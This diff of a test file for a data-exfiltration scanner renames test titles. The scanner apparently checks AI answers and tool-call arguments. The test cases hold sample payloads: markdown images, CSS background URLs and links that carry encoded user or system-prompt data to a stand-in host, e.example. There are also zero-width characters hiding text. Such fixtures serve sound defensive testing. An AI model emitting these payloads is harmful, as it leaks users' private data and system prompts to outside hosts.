@@ -79,7 +79,7 @@ describe("DataExfiltration", () => {
     ["style", `<div style="background: url('https://e.example/?d=${encoded(NEWS)}')">x</div>`, "query"],
     ["HTML in a block", `\`\`\`html\n<img src="https://e.example/?d=${encoded(NEWS)}">\n\`\`\``, "query"],
     ["behind an open backtick", `It is \` here.\n\n![a](https://e.example/?d=${encoded(NEWS)})`, "query"],
-  ])("finds what an image carries: %s", async (_, answer, label) => {
+  ])("finds data in the URL of an image: %s", async (_, answer, label) => {
     const verdict = await scanned(scanner, answer, context);
     expect(verdict).toMatchObject({ isValid: false, score: 1, findings: [{ type: "exfiltration_image", label }] });
     for (const { start, end, text } of verdict.findings) expect(answer.slice(start, end)).toBe(text);
@@ -98,7 +98,7 @@ describe("DataExfiltration", () => {
       `https://www.google.com/search?q=${encodeURIComponent(SYSTEM.slice(48, 170))}`,
       "query",
     ],
-  ])("finds what a link carries: %s", async (_, answer, label) => {
+  ])("finds data in the URL of a link: %s", async (_, answer, label) => {
     const verdict = await scanned(scanner, answer, context);
     expect(verdict).toMatchObject({ isValid: false, findings: [{ type: "exfiltration_link", label }] });
   });
@@ -122,7 +122,7 @@ describe("DataExfiltration", () => {
     ],
     ["zero-width characters", `Done.${bits("the key")}`],
     ["zero-width characters", [...bits("key 42")].map((bit) => `a${bit}`).join("")],
-  ])("finds texts that nobody sees: %s", async (label, answer) => {
+  ])("finds invisible texts: %s", async (label, answer) => {
     const verdict = await scanned(scanner, answer);
     expect(verdict).toMatchObject({ isValid: false });
     for (const finding of verdict.findings) expect(finding).toMatchObject({ type: "hidden_text", label });
@@ -204,7 +204,7 @@ describe("DataExfiltration", () => {
     expect((await scanned(redacting, "Nothing.")).edits).toBeUndefined();
   });
 
-  it("lets allowed domains have data", async () => {
+  it("allows data in URLs of allowed domains", async () => {
     const allowing = new DataExfiltration({ allowedDomains: ["Charts.example"] });
     expect(await scanned(allowing, `![a](https://eu.charts.example/?d=${encoded(NEWS)})`)).toMatchObject({
       isValid: true,
@@ -214,7 +214,7 @@ describe("DataExfiltration", () => {
     });
   });
 
-  it("knows the prompt of an answer without a conversation", async () => {
+  it("compares an answer with its prompt without a conversation", async () => {
     const answer = "![a](https://e.example/?q=my+doctor+says+that+I+must+not+fly)";
     expect(await scanned(scanner, answer, { prompt: USER })).toMatchObject({ isValid: false });
   });
@@ -229,13 +229,13 @@ describe("DataExfiltration", () => {
     ["https://news.example/2026/05/ten-quiet-beaches-near-lisbon-that-nobody-has-written-about-so-far-this-year", true],
     ["https://api.example/v1/bookings/{id}?fields=data", true],
     ["Lisbon\n2026-12-01", true],
-  ])("judges URLs in arguments of tool calls: %s", async (argument, isValid) => {
+  ])("checks URLs in arguments of tool calls: %s", async (argument, isValid) => {
     const ofCalls = new OfToolCalls();
     expect(ofCalls.conversation).toEqual({ sources: ["tool_call"], dependsOnOthers: true });
     expect(await scanned(ofCalls, argument, { ...context, source: "tool_call" })).toMatchObject({ isValid });
   });
 
-  it("finds any encoded text in any place, and points at its URL", async () => {
+  it("finds any encoded text in any part, and points at its URL", async () => {
     await fc.assert(
       fc.asyncProperty(
         fc.array(fc.constantFrom("alpha", "Straße", "дом", "wine", "42", "flight"), { minLength: 4, maxLength: 20 }),
